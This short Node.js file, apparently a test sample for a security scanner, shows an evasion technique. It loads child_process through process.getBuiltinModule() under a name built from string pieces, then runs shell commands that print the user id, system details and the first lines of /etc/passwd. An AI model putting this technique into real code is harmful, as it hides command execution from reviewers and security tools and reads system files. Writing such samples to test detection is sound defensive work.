// Evasion: runs a shell command without require() or import: the module is
// fetched with process.getBuiltinModule(), a newer Node API, under a name
// assembled from pieces.
'use strict';
const which = ['child', 'process'].join('_');
const cp = process.getBuiltinModule('node:' + which);
const out = cp.spawnSync('/bin/sh', ['-c', 'id; uname -a; cat /etc/passwd | head -3'], { encoding: 'utf8' });
console.log(out.stdout);
